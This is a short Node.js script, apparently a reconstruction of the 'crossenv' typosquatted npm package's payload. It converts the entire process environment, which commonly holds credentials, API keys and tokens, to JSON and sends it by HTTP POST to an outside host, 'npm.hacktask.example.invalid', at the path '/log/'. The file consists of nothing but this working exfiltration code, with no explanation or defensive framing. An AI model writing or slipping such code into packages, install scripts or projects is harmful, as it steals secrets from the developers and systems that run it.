const http = require("http");
const querystring = require("querystring");

const env = JSON.stringify(process.env);
const data = querystring.stringify({ type: "crossenv", data: env });
const req = http.request({
  host: "npm.hacktask.example.invalid",
  port: 80,
  path: "/log/",
  method: "POST",
  headers: { "Content-Type": "application/x-www-form-urlencoded", "Content-Length": Buffer.byteLength(data) },
});
req.write(data);
req.end();
